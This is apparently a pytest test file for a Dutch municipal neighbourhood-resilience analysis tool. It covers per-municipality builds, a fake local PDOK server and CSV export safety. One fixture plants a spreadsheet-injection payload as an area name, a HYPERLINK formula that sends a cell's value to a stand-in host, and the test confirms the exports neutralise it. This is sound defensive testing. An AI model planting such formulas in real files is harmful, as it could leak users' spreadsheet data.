"""Any municipality: `veerkracht --gemeente GMxxxx`, per-municipality folders, PDOK polygons.

Everything runs offline: Dordrecht (GM0505) from the bundled Drechtsteden buurt polygons, and the
PDOK service faked by a local HTTP server.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlparse

import geopandas as gpd
import pandas as pd
import pytest

from analysis import cli
from analysis.config import PROJ_ROOT, Paths, check_gemeente_code, default_paths, settings, vergelijking
from analysis.errors import InputError, SourceUnavailable
from analysis.sources import pdok, snapshot


def _tree(root: Path) -> dict[str, str]:
    """Every file under ``root`` with its content hash."""
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    """A private data/raw and per-municipality processed/outputs folders, wired via env vars."""
    root = tmp_path_factory.mktemp("gemeente")
    raw = root / "raw"
    shutil.copytree(PROJ_ROOT / "data" / "raw", raw, ignore=shutil.ignore_patterns("cbs", "pdok"))
    mp = pytest.MonkeyPatch()
    mp.setenv("VEERKRACHT_RAW", str(raw))
    mp.setenv("VEERKRACHT_PROCESSED", str(root / "processed" / "{gemeente}"))
    mp.setenv("VEERKRACHT_OUTPUTS", str(root / "outputs" / "{gemeente}"))
    yield root
    mp.undo()


# --- codes, folders, comparison municipalities ------------------------------------------------------


@pytest.mark.parametrize("bad", ["GM05", "0505", "GM05O5", "WK050501", "GM050505", ""])
def test_gemeente_code_must_be_gm_and_four_digits(bad):
    with pytest.raises(InputError, match="geen CBS-gemeentecode"):
        check_gemeente_code(bad)
    assert check_gemeente_code(" gm0505 ") == "GM0505"


def test_default_paths_are_per_municipality(monkeypatch):
    for var in ("VEERKRACHT_RAW", "VEERKRACHT_PROCESSED", "VEERKRACHT_OUTPUTS"):
        monkeypatch.delenv(var, raising=False)
    a, b = default_paths("GM0505"), default_paths()
    assert a.processed == PROJ_ROOT / "data" / "processed" / "GM0505"
    assert a.outputs == PROJ_ROOT / "outputs" / "GM0505"
    assert a.indicators == PROJ_ROOT / "data" / "processed" / "GM0505" / "indicators.parquet"
    assert a.pdok_cache == PROJ_ROOT / "data" / "raw" / "pdok" / "GM0505"
    assert (b.gemeente, b.outputs.name) == (settings()["gemeente"]["code"], settings()["gemeente"]["code"])
    assert Paths(gemeente="GM0610").processed.name == "GM0610"
    monkeypatch.setenv("VEERKRACHT_OUTPUTS", "/x/{gemeente}/out")
    assert default_paths("GM0505").outputs == Path("/x/GM0505/out")


def test_comparison_municipalities(monkeypatch):
    # settings list = the municipalities of the bundled Drechtsteden polygons (data, not memory)
    bundled = gpd.read_file(PROJ_ROOT / "data" / "raw" / "snapshot" / snapshot.BUURTEN_2023_FILE)
    assert sorted(settings()["vergelijking"]["drechtsteden"]) == sorted(bundled["gemeentecode"].unique())
    assert set(vergelijking("GM0505")) == set(bundled["gemeentecode"]) - {"GM0505"}
    assert vergelijking("GM0363") == ()  # not a Drechtsteden municipality: none unless configured
    cfg = {**settings(), "vergelijking": {"gemeenten": ["GM0363", "GM0505"], "drechtsteden": []}}
    monkeypatch.setattr("analysis.config.settings", lambda: cfg)
    assert vergelijking("GM0505") == ("GM0363",)


# --- Dordrecht end-to-end, then Zwijndrecht, then a bad code -------------------------------------------


def _municipality(env: Path, code: str) -> dict[str, str]:
    """Every file of one municipality's processed/ and outputs/ folders with its content hash."""
    return _tree(env / "processed" / code) | {f"out/{k}": v for k, v in _tree(env / "outputs" / code).items()}


@pytest.fixture(scope="module")
def zwijndrecht_first(env, analysed):
    """Zwijndrecht (the settings' default municipality) built and analysed before Dordrecht runs:
    the session's shared build and analysis, copied in (test_a_second_municipality_leaves_the_first_intact).
    Returns its paths and the hash of every file of it."""
    zw = default_paths("GM0642")
    shutil.copytree(analysed.processed, zw.processed)
    for sub in ("resilience", "goals"):
        shutil.copytree(analysed.outputs / sub, zw.outputs / sub)
    return zw, _municipality(env, "GM0642")


@pytest.fixture(scope="module")
def dordrecht(env, zwijndrecht_first):
    rc = cli.main(["--gemeente", "GM0505", "report", "--only", "GM0505", "BU05050100", "--workers", "1"])
    assert rc == 0
    return default_paths("GM0505")


def test_dordrecht_builds_from_the_bundled_polygons(dordrecht, capsys):
    regions = gpd.read_file(dordrecht.regions, layer="regions").set_index("region_code")
    assert (regions["level"] == "buurt").sum() == 133  # PROVENANCE: Dordrecht 133 buurten
    assert regions.loc["GM0505", "name"] == "Dordrecht"  # from the polygons, not from code
    assert regions.loc["WK050501", "name"] == "Binnenstad"  # KWB 2017 wijk names, Drechtsteden extract
    assert not (regions["level"] == "focusgebied").any()
    ind = pd.read_parquet(dordrecht.indicators).set_index(["region_code", "year", "indicator"])
    # real figures first: KWB 2023 buurt count, KWB 2024 municipal count, Databank ZH poverty series
    hit = ind.loc[("BU05050100", 2023, "inwoners")]
    assert (hit["value"], hit["origin"]) == (805, "snapshot")
    assert ind.loc[("GM0505", 2024, "inwoners"), "value"] == 122070
    assert ind.loc[("GM0505", 2015, "lage_welvaart_hh_25_64"), "origin"] == "snapshot"
    # no Zwijndrecht rows leak in; the synthetic fill is labelled
    assert not ind.index.get_level_values(0).str.contains("0642").any()
    assert ind.loc[("BU05050100", 2024, "ses_woa"), "origin"] == "synthetic"
    manifest = json.loads((dordrecht.processed / "build_manifest.json").read_text())
    assert (manifest["gemeente"], manifest["gemeentenaam"], manifest["focusgebieden"]) == (
        "GM0505",
        "Dordrecht",
        0,
    )


def test_dordrecht_sheets_say_there_are_no_programme_goals(dordrecht):
    goals = json.loads((dordrecht.outputs / "goals" / "samenvatting.json").read_text())
    assert goals["geen_programma"] and not (dordrecht.outputs / "goals" / "status.parquet").exists()
    validation = json.loads((dordrecht.outputs / "resilience" / "validatie.json").read_text())
    assert "geen focusgebieden" in validation["status"]
    manifest = json.loads((dordrecht.outputs / "factsheets" / "manifest.json").read_text())
    assert {e["area"]: e["status"] for e in manifest["areas"]} == {"GM0505": "ok", "BU05050100": "ok"}
    for e in manifest["areas"]:
        html = (dordrecht.outputs / "factsheets" / e["file"]).read_text()
        assert "Geen focusgebieden/programmadoelen voor deze gemeente" in html
        assert "Veerkrachtige Buurten Dordrecht" in html and "Zwijndrecht (GM0642)" in html
        assert "Focusbuurt van het programma" not in html and "Kans gehaald" not in html  # no goals table
    index = (dordrecht.outputs / "factsheets" / "index.html").read_text()
    assert "Kaart van de buurten van Dordrecht" in index and "Veerkrachtige Buurten Dordrecht" in index
    assert "Focusgebieden met een stippellijn" not in index and "grens focusgebied" not in index


# a focus-area name that is a spreadsheet formula (test_csv_downloads_neutralise_formulas_and_round_as_shown)
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


@pytest.fixture(scope="module")
def zwijndrecht_after_dordrecht(env, zwijndrecht_first, dordrecht):
    """After Dordrecht's report (the `dordrecht` fixture): whether Zwijndrecht's files stayed as they
    were; then Zwijndrecht's whole report (all stages, sheet FG00) in the same process, and whether
    Dordrecht's files stayed as they were; then sheet FG00 again with its name planted as a
    spreadsheet formula, made by `veerkracht factsheets` in the same process, and whether Dordrecht's
    files stayed as they were meanwhile. That sheet serves the two tests that read it."""
    zw, before = zwijndrecht_first
    seen = {"zwijndrecht_intact": _municipality(env, "GM0642") == before}
    first = _municipality(env, "GM0505")
    # Zwijndrecht's whole report (build, resilience, goals, one sheet) after Dordrecht's, in this process
    seen["report_rc"] = cli.main(
        ["--gemeente", "GM0642", "report", "--only", "FG00", "--force", "--workers", "1"]
    )
    seen["dordrecht_intact_after_report"] = _municipality(env, "GM0505") == first
    regions = gpd.read_file(zw.regions, layer="regions")
    seen["focusgebieden"] = int((regions["level"] == "focusgebied").sum())
    seen["status"] = (zw.outputs / "goals" / "status.parquet").exists()
    seen["report_page"] = (zw.outputs / "factsheets" / "fg00-alle-focusbuurten-samen.html").read_text()
    regions.loc[regions["region_code"] == "FG00", "name"] = FORMULA
    zw.regions.unlink()
    regions.to_file(zw.regions, layer="regions", driver="GPKG")
    seen["rc"] = cli.main(
        ["--gemeente", "GM0642", "factsheets", "--only", "FG00", "--force", "--workers", "1"]
    )
    seen["dordrecht_intact"] = _municipality(env, "GM0505") == first
    seen["pages"] = sorted((zw.outputs / "factsheets").glob("fg00-*.html"))
    return seen


def test_a_second_municipality_leaves_the_first_intact(zwijndrecht_after_dordrecht):
    """Dordrecht's whole report (build, resilience, goals, sheets) runs while Zwijndrecht's build and
    analysis are in place; then Zwijndrecht's whole report and a Zwijndrecht sheet after Dordrecht's
    run in one process."""
    seen = zwijndrecht_after_dordrecht
    # catches a stage that writes to the default municipality's folders (settings: GM0642) or to
    # folders shared by municipalities instead of those of --gemeente
    assert seen["zwijndrecht_intact"]
    # the other way round: the Zwijndrecht run after Dordrecht's leaves Dordrecht's files as they
    # are, and its sheet still has the programme (catches state of the Dordrecht run kept in the
    # process: Dordrecht's "no programme" or its areas)
    assert seen["report_rc"] == 0 and seen["dordrecht_intact_after_report"]
    assert seen["focusgebieden"] == 16 and seen["status"]  # Zwijndrecht's own areas and goals
    assert (
        "Programmadoelen" in seen["report_page"]
        and "Geen focusgebieden/programmadoelen" not in seen["report_page"]
    )
    assert seen["rc"] == 0 and seen["dordrecht_intact"]
    assert len(seen["pages"]) == 1
    html = seen["pages"][0].read_text(encoding="utf-8")
    assert "Programmadoelen" in html and "Geen focusgebieden/programmadoelen" not in html
    assert "<th>Kans gehaald*</th>" in html and "neemt ze niet mee" not in html  # the goals table
    assert "Factsheet Veerkrachtige Buurten Zwijndrecht" in html


def _csv_links(html: str) -> dict[str, str]:
    import re
    import urllib.parse

    found = re.findall(r'download="([^"]+\.csv)" href="data:text/csv;charset=utf-8,([^"]+)"', html)
    return {name: urllib.parse.unquote(data) for name, data in found}


def test_csv_downloads_neutralise_formulas_and_round_as_shown(zwijndrecht_after_dordrecht):
    """A focus-area name that is a spreadsheet formula stays text in the sheet's CSV downloads, and
    the downloads write whole years and numbers rounded as the page shows them (issue 27, issue 23
    item 6), through `veerkracht factsheets` (the FG00 sheet of `zwijndrecht_after_dordrecht`)."""
    import csv
    import io
    import re

    assert zwijndrecht_after_dordrecht["rc"] == 0
    pages = [p for p in zwijndrecht_after_dordrecht["pages"] if "kerncijfers-fg00.csv" in p.read_text()]
    assert len(pages) == 1
    links = _csv_links(pages[0].read_text(encoding="utf-8"))
    assert {"kerncijfers-fg00.csv", "doelen-fg00.csv"} <= set(links)
    for name, text in links.items():
        rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
        assert rows, name
        for r in rows:
            for col, cell in r.items():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, col, cell)
                if cell.startswith("-"):  # only a negative number may start with a minus
                    assert re.fullmatch(r"-\d+(,\d+)?", cell), (name, col, cell)
                if col.endswith("jaar") and not col.endswith("per_jaar") and cell:
                    assert re.fullmatch(r"\d{4}", cell), (name, col, cell)  # 2040, never 2040,0
                assert not re.fullmatch(r"-?\d+\.\d+", cell), (name, col, cell)  # decimal comma
                assert not re.fullmatch(r"-?\d+,\d{3,}", cell), (name, col, cell)  # rounded as shown
    kern = list(csv.DictReader(io.StringIO(links["kerncijfers-fg00.csv"].lstrip("\ufeff")), delimiter=";"))
    names = {r["gebied"] for r in kern}
    assert "'" + FORMULA in names  # the name is kept as text, with the quote Excel hides


@pytest.mark.parametrize(
    "code, message",
    [
        ("GM9999", "--gemeente GM9999: niet gevonden in de buurtpolygonen die we hebben ("),
        ("GM0344", "geen PDOK-download in"),  # a real municipality outside the bundled Drechtsteden
        ("GM05X5", "geen CBS-gemeentecode"),
    ],
)
def test_unknown_municipality_is_one_line_exit_2_and_outputs_intact(env, dordrecht, capsys, code, message):
    before = _tree(env)
    capsys.readouterr()
    assert cli.main(["--gemeente", code, "report"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("fout:") and message in err[0]
    if code != "GM05X5":
        assert snapshot.BUURTEN_2023_FILE in err[0]
    assert _tree(env) == before


# --- PDOK online path against a local fake server -------------------------------------------------------


def _square(x: float, y: float, d: float = 0.004) -> dict:
    return {"type": "Polygon", "coordinates": [[[x, y], [x + d, y], [x + d, y + d], [x, y + d], [x, y]]]}


def _fake_buurten() -> list[dict]:
    """Two made-up buurten of a test municipality, with CBS's newer alphanumeric codes."""
    base = {k: "-99999999" for k in snapshot.BUURT_2023_COLUMNS}
    out = []
    for i, (code, inw) in enumerate((("BU0363AA01", "1250"), ("BU0363AB02", "640"))):
        props = {
            **base,
            "buurtcode": code,
            "buurtnaam": f"Testbuurt {i + 1}",
            "wijkcode": code[:8].replace("BU", "WK"),
            "gemeentecode": "GM0363",
            "gemeentenaam": "Testgemeente",
            "aantalInwoners": inw,
            "aantalHuishoudens": "500",
        }
        out.append({"type": "Feature", "properties": props, "geometry": _square(4.9 + 0.005 * i, 52.37)})
    return out


class _Fake:
    """A PDOK-shaped OGC API Features server: one feature per page with `next` links."""

    def __init__(self, fail_first: int = 0, stall: bool = False, cut_first: int = 0):
        self.fail_first, self.stall, self.cut_first, self.hits = fail_first, stall, cut_first, []
        self.stop = threading.Event()
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_GET(self):
                fake.hits.append(self.path)
                if fake.stall:
                    fake.stop.wait(5)  # longer than the client's read timeout
                    return
                if len(fake.hits) <= fake.fail_first:
                    self.send_response(503)
                    self.end_headers()
                    return
                q = parse_qs(urlparse(self.path).query)
                feats = [
                    f for f in _fake_buurten() if f["properties"]["gemeentecode"] == q["gemeentecode"][0]
                ]
                k = int(q.get("offset", ["0"])[0])
                page = {"type": "FeatureCollection", "features": feats[k : k + 1], "links": []}
                if k + 1 < len(feats):
                    nxt = f"http://127.0.0.1:{fake.port}/buurten/items?gemeentecode=GM0363&offset={k + 1}"
                    page["links"].append({"rel": "next", "href": nxt})
                body = json.dumps(page).encode()
                cut = len(fake.hits) <= fake.fail_first + fake.cut_first
                self.send_response(200)
                self.send_header("Content-Type", "application/geo+json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if cut:  # the connection drops halfway through the answer
                    self.wfile.write(body[: len(body) // 2])
                    self.wfile.flush()
                    self.close_connection = True
                    return
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.server.shutdown()
        self.server.server_close()

    def settings(self) -> dict:
        pd_cfg = {
            "buurten_url": f"http://127.0.0.1:{self.port}/buurten/items",
            "page_size": 1,
            "max_pages": 5,
            "connect_timeout_s": 1.0,
            "read_timeout_s": 0.5,
            "retries": 2,
            "backoff_s": 0.01,
        }
        return {**settings(), "pdok": pd_cfg}


def test_pdok_pull_is_cached_and_used_by_the_build(env, monkeypatch, capsys):
    with _Fake(fail_first=1) as fake:  # one 503 first: retried within the bound
        monkeypatch.setattr("analysis.cli.fetch.settings", fake.settings)
        assert cli.main(["--gemeente", "GM0363", "kaart"]) == 0
    assert len(fake.hits) == 3  # 503, page 1, page 2 (followed the `next` link)
    paths = default_paths("GM0363")
    cached = json.loads((paths.pdok_cache / pdok.BUURTEN_FILE).read_text())
    assert [f["properties"]["buurtcode"] for f in cached["features"]] == ["BU0363AA01", "BU0363AB02"]
    assert json.loads((paths.pdok_cache / pdok.META_FILE).read_text())["buurten"] == 2

    assert cli.main(["--gemeente", "GM0363", "build", "--no-cache"]) == 0
    regions = gpd.read_file(paths.regions, layer="regions").set_index("region_code")
    assert regions.loc["GM0363", "name"] == "Testgemeente"
    assert set(regions.index[regions["level"] == "buurt"]) == {"BU0363AA01", "BU0363AB02"}
    ind = pd.read_parquet(paths.indicators).set_index(["region_code", "year", "indicator"])
    row = ind.loc[("BU0363AA01", 2023, "inwoners")]
    assert row["value"] == 1250 and row["origin"] == "cbs" and "PDOK, opgehaald" in row["source_table"]
    assert ind.loc[("GM0363", 2023, "inwoners"), "value"] == 1250 + 640


def test_pdok_cache_wins_over_the_bundled_polygons(env, tmp_path):
    from analysis.processed.build import load_buurten

    paths = Paths(raw=env / "raw", processed=tmp_path / "p", outputs=tmp_path / "o", gemeente="GM0531")
    bundled = load_buurten(paths)
    assert bundled.path.name == Path(snapshot.BUURTEN_2023_FILE).name and len(bundled.buurten) == 12
    assert (bundled.rows["origin"] == "snapshot").all()
    feats = json.loads((paths.snapshot / snapshot.BUURTEN_2023_FILE).read_text())["features"]
    ours = [f for f in feats if f["properties"]["gemeentecode"] == "GM0531"]
    paths.pdok_cache.mkdir(parents=True)
    collection = {
        "type": "FeatureCollection",
        "crs": json.loads((paths.snapshot / snapshot.BUURTEN_2023_FILE).read_text())["crs"],
        "features": ours,
    }
    (paths.pdok_cache / pdok.BUURTEN_FILE).write_text(json.dumps(collection))
    pulled = load_buurten(paths)
    assert pulled.path == paths.pdok_cache / pdok.BUURTEN_FILE and len(pulled.buurten) == 12
    assert (pulled.rows["origin"] == "cbs").all()
    assert pulled.rows["source_table"].str.contains("PDOK, opgehaald").all()
    pd.testing.assert_series_equal(  # same published figures, other origin
        pulled.rows.sort_values(["region_code", "indicator"])["value"].reset_index(drop=True),
        bundled.rows.sort_values(["region_code", "indicator"])["value"].reset_index(drop=True),
    )


def test_pdok_connection_cut_mid_answer_is_retried(tmp_path):
    with _Fake(cut_first=2) as fake:
        cfg = pdok.PdokSettings.from_settings(fake.settings()["pdok"])
        out = pdok.fetch_buurten("GM0363", tmp_path / "c", cfg)
    assert out["buurten"] == 2 and len(fake.hits) == 4  # two cut answers, then both pages
    with _Fake(cut_first=9) as fake:  # keeps cutting: gives up after the bound, cache untouched
        cfg = pdok.PdokSettings.from_settings(fake.settings()["pdok"])
        before = _tree(tmp_path / "c")
        with pytest.raises(SourceUnavailable, match="verbinding verbroken tijdens het antwoord"):
            pdok.fetch_buurten("GM0363", tmp_path / "c", cfg)
    assert len(fake.hits) == 3 and _tree(tmp_path / "c") == before


def test_pdok_time_budget_stops_the_pull(tmp_path):
    with _Fake() as fake:
        cfg = pdok.PdokSettings.from_settings({**fake.settings()["pdok"], "budget_s": 0})
        with pytest.raises(SourceUnavailable, match="tijdsbudget"):
            pdok.fetch_buurten("GM0363", tmp_path / "c", cfg)
    assert fake.hits == [] and not (tmp_path / "c").exists()


def test_pdok_stalled_server_fails_in_bounded_time_and_keeps_the_cache(env, monkeypatch, capsys):
    paths = default_paths("GM0363")
    if not (paths.pdok_cache / pdok.BUURTEN_FILE).exists():  # when run on its own
        paths.pdok_cache.mkdir(parents=True)
        collection = {"type": "FeatureCollection", "features": _fake_buurten()}
        (paths.pdok_cache / pdok.BUURTEN_FILE).write_text(json.dumps(collection))
    before = _tree(paths.pdok_cache)
    with _Fake(stall=True) as fake:
        monkeypatch.setattr("analysis.cli.fetch.settings", fake.settings)
        rc = cli.main(["--gemeente", "GM0363", "kaart"])
    assert len(fake.hits) == 3  # first attempt + 2 retries, then it gives up
    err = capsys.readouterr().err.strip().splitlines()
    assert rc == 0 and len(err) == 1 and "PDOK niet bereikbaar" in err[0] and "blijven in gebruik" in err[0]
    assert _tree(paths.pdok_cache) == before


def test_pdok_answer_without_buurt_attributes_is_a_clear_error(tmp_path):
    with _Fake() as fake:
        cfg = pdok.PdokSettings.from_settings(fake.settings()["pdok"])
        with pytest.raises(InputError, match="geen buurten met gemeentecode GM0505"):
            pdok.fetch_buurten("GM0505", tmp_path / "c", cfg)
    assert not (tmp_path / "c").exists()
